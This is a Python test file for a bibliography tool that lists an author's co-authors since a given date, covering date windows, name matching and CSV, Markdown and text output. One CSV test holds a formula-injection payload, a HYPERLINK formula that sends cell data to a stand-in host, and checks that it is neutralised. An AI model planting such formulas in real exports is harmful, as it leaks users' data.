"""Who has written with the owner since a date: everyone once, and nobody else."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bibfolio.model import PartialDate, Profile
from bibfolio.model.people import Person
from bibfolio.project.coauthors import (
    HEADS,
    Coauthors,
    as_csv,
    as_markdown,
    as_text,
    coauthors,
    window_start,
)
from bibfolio.sources.bibliography import parse_bibliography

SINCE = PartialDate(2022, 6, 15)
OWNER = Profile("Jane Doe")


def since(text: str, profile: Profile = OWNER) -> Coauthors:
    """The co-authors in a bibliography, drafts as well."""
    read = parse_bibliography(text, profile.names)
    return coauthors([*read.papers, *read.drafts], profile, SINCE)


def entry(key: str, authors: str, when: str = "2024", more: str = "") -> str:
    dated = f"date = {{{when}}}, " * bool(when)
    return f"@misc{{{key}, title = {{Of {key}}}, author = {{{authors}}}, {dated}{more}}}\n"


def names(found: Coauthors) -> list[str]:
    return [", ".join(filter(None, person.cells[:2])) for person in found.people]


# -- the window --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "first"),
    [
        ("48months", "2022-12-03"),
        ("48 Months", "2022-12-03"),
        ("1month", "2026-11-03"),
        ("4years", "2022-12-03"),
        ("2022", "2022"),
        ("2022-09", "2022-09"),
    ],
)
def test_a_time_is_months_years_or_a_date(words, first):
    assert window_start(words, date(2026, 12, 3)).iso == first


def test_a_month_may_lack_the_day():
    assert window_start("1month", date(2026, 3, 31)).iso == "2026-02-28"
    assert window_start("12months", date(2024, 2, 29)).iso == "2023-02-28"


@pytest.mark.parametrize("words", ["", "soon", "12days", "2022-13", "-1months", "9999years"])
def test_what_is_no_time_is_refused(words):
    with pytest.raises(ValueError):
        window_start(words, date(2026, 12, 3))


@pytest.mark.parametrize(
    ("when", "counts"),
    [
        *[("2022-06-15", True), ("2022-06-14", False), ("2022-06", True), ("2022-05", False)],
        *[("2022", True), ("2021", False), ("2021/2022", True), ("2020/2021", False)],
        *[("2031", True), ("", True)],
    ],
)
def test_a_paper_counts_if_any_of_its_days_does(when, counts):
    found = since(entry("k", "Doe, Jane and Fable, Nora", when))
    assert names(found) == ["Fable, Nora"] * counts
    assert [paper.key for paper in found.undated] == ["k"] * (not when)


# -- each once, and nobody else ----------------------------------------------------------------

#: People, each in several spellings, the first of which is the fullest.
PEOPLE = [
    ["Fable, Nora", "Fable, N.", "Nora Fable", "N. Fable"],
    ["Núñez, Zoë", "Nunez, Zoe", "N{\\'u}{\\~n}ez, Zo{\\\"e}", "Núñez, Z."],
    ["van der Berg, Ola", "van der Berg, O.", "Ola van der Berg"],
    ["Roe, Ann B.", "Roe, Ann", "Roe, A. B."],
    ["李, 明", "李明"],
]
OTHERS = ["{Institute of Lines}", "others"]
DATES = ["2022-06-15", "2022", "", "2026-01", "2022-06-14", "2021", "2019-12-31"]
IN_WINDOW = frozenset(DATES[:4])
papers = st.lists(
    st.tuples(
        st.sampled_from(DATES),
        st.sampled_from(["Doe, Jane", "Doe, J.", "Jane M. Doe", "Poe, Edgar"]),
        st.lists(st.tuples(st.sampled_from(range(len(PEOPLE))), st.integers(0, 3)), max_size=4),
        st.lists(st.sampled_from(OTHERS), max_size=1),
        st.booleans(),
    ),
    max_size=6,
)


@settings(max_examples=200, deadline=None)
@given(papers, st.sets(st.sampled_from(range(len(PEOPLE)))))
def test_each_coauthor_of_the_window_is_there_once_and_nobody_else(papers, known):
    text, expected = "", Counter[int]()
    # All spellings are known from old papers, so that initials can be those of one person only.
    for who, spellings in enumerate(PEOPLE):
        text += "".join(entry(f"old{who}-{i}", s, "1999") for i, s in enumerate(spellings))
    for number, (when, first, people, others, is_hidden) in enumerate(papers):
        one_each = {who: PEOPLE[who][at % len(PEOPLE[who])] for who, at in people}
        authors = " and ".join([first, *one_each.values(), *others])
        hidden = "pubstate = {inpreparation}" if is_hidden else ""
        text += entry(f"k{number}", authors, when, hidden)
        if when in IN_WINDOW and "Doe" in first:
            expected.update(one_each.keys())
    profile = Profile(
        "Jane Doe",
        people={PEOPLE[who][0]: Person(PEOPLE[who][0], affiliation="U") for who in known},
    )
    found = since(text, profile)
    rows = [(person.cells[0], person.cells[2], len(person.papers)) for person in found.people]
    families = ["Fable", "Núñez", "van der Berg", "Roe", "李"]
    assert sorted(rows) == sorted(
        (families[who], "U" if who in known else "", count) for who, count in expected.items()
    )
    assert not found.unclear
    for person in found.people:
        assert all(paper.date is None or paper.date.iso in IN_WINDOW for paper in person.papers)


ALIKE = ["Li, W.", "Li, Wei", "Li, Wen", "Li, Wei Ming", "Li, W. M.", "Wei Li", "LI, Wei", "Li"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(DATES), st.sampled_from(ALIKE)), min_size=1, max_size=8))
def test_nobody_is_lost_or_made_up_among_names_that_are_alike(papers):
    text = "".join(
        entry(f"k{number}", f"Doe, Jane and {name}", when)
        for number, (when, name) in enumerate(papers)
    )
    found = since(text)
    listed = [paper.key for person in found.people for paper in person.papers]
    wanted = [f"k{number}" for number, (when, _name) in enumerate(papers) if when in IN_WINDOW]
    assert sorted(listed) == wanted
    assert len({*names(found)}) == len(found.people)


# -- who is who --------------------------------------------------------------------------------


def test_what_cannot_be_told_apart_is_told():
    text = entry("a", "Doe, Jane and Li, W. and Li, Wei") + entry("b", "Doe, Jane and Li, Wen")
    assert since(text).unclear == {"Li, W.": ("Li, Wei", "Li, Wen")}
    assert names(since(text)) == ["Li, W.", "Li, Wei", "Li, Wen"]
    # Of the past, only what the name may be today; and people of the profile who wrote nothing.
    old = entry("a", "Doe, Jane and Li, W.") + entry("b", "Li, Wei and Li, Wen", "1999")
    assert since(old).unclear == {"Li, W.": ("Li, Wei", "Li, Wen")}
    assert since(entry("a", "Doe, Jane and Li, Wei") + entry("b", "Li, W. and Li, Wen", "1999"))
    people = {name: Person(name) for name in ("Wei Li", "Wen Li")}
    profile = Profile("Jane Doe", people=people)
    assert since(entry("a", "Doe, Jane and Li, W."), profile).unclear == {
        "Li, W.": ("Li, Wei", "Li, Wen")
    }


def test_a_person_of_the_profile_is_called_as_there_and_never_by_an_old_name():
    person = Person("Nora Fable", orcid="0000-0002-1825-0097", aliases=("Nora Sample", "Fable"))
    profile = Profile("Jane Doe", people={"Nora Fable": person})
    text = entry("a", "Doe, Jane and Sample, Nora", "2023") + entry("b", "Fable, N. and Doe, J.")
    (found,) = since(text, profile).people
    assert found.cells == ("Fable", "Nora", "", "0000-0002-1825-0097", "2024", "Of b", "2")
    (old,) = since(entry("a", "Doe, Jane and Sample, Nora"), profile).people
    assert old.cells[:2] == ("Fable", "Nora")


def test_a_family_name_begins_where_the_bibliography_says():
    people = {name: Person(name, native=own) for name, own in {"Ann van Scoy Lee": ""}.items()}
    text = entry("a", "Doe, Jane and Scoy Lee, Ann van and van Scoy Lee, A.")
    assert names(since(text, Profile("Jane Doe", people=people)))[:1] == ["van Scoy Lee, Ann"]
    native = {"Chen Lizi": Person("Chen Lizi", native="陈例子")}
    assert names(
        since(entry("a", "Doe, Jane and 陈, 例子"), Profile("Jane Doe", people=native))
    ) == ["陈, 例子"]


def test_the_newest_paper_is_the_last_one_and_one_without_a_date_is_not():
    text = entry("a", "Doe, Jane and Roe, A.", "") + entry("b", "Roe, A. and Doe, Jane", "2023")
    text += entry("c", "Roe, A. and Doe, Jane", "2023-05") + entry("d", "Roe, A.", "2025")
    found = since(text)
    assert found.people[0].cells[4:] == ("2023-05", "Of c", "3")
    assert [paper.key for paper in found.without_owner] == ["d"]


def test_a_list_that_ends_in_others_is_named():
    assert [p.key for p in since(entry("a", "Doe, Jane and others")).incomplete] == ["a"]


# -- forms -------------------------------------------------------------------------------------


def test_forms_say_the_same_and_a_spreadsheet_computes_nothing():
    bad = '=HYPERLINK("http://x.example/?"&A1,"x")'
    people = {
        "Nora Fable": Person("Nora Fable", affiliation=bad),
        "Ola Poe": Person("Ola Poe", affiliation=" \t+1 | <b>*Lab*</b>\n"),
    }
    text = entry("a", "Doe, Jane and Fable, Nora and Poe, Ola")
    text += "@misc{b, title = {@SUM(1)}, author = {Doe, Jane and {-1}, Ann}, year = 2025}"
    found = since(text, Profile("Jane Doe", people=people)).people
    table = as_csv(found)
    assert table.startswith("\ufeffFamily name,")
    rows = [*csv.reader(io.StringIO(table.removeprefix("\ufeff")))]
    assert rows[0] == [*HEADS]
    assert rows[1:] == [
        ["'-1", "Ann", "", "", "2025", "'@SUM(1)", "1"],
        ["Fable", "Nora", f"'{bad}", "", "2024", "Of a", "1"],
        ["Poe", "Ola", "'+1 | <b>*Lab*</b>", "", "2024", "Of a", "1"],
    ]
    assert r"| Poe | Ola | +1 \| \<b\>\*Lab\*\</b\> |  | 2024 | Of a | 1 |" in as_markdown(found)
    assert as_text(found).splitlines()[2] == (
        "Poe, Ola; +1 | <b>*Lab*</b>; 1 paper, the last 2024: Of a"
    )


@given(st.text(max_size=20), st.text(max_size=20))
def test_no_text_breaks_a_form(affiliation, title):
    people = {"Nora Fable": Person("Nora Fable", affiliation=affiliation)}
    profile = Profile("Jane Doe", people=people)
    text = f"@misc{{k, author = {{Doe, Jane and Fable, Nora}}, year = 2024, title = {{{title}}}}}"
    found = since(text, profile).people
    rows = [*csv.reader(io.StringIO(as_csv(found).removeprefix("\ufeff")))]
    assert all(len(row) == len(HEADS) for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert len(as_markdown(found).splitlines()) == len(found) + 2
    assert len(as_text(found).splitlines()) == len(found)
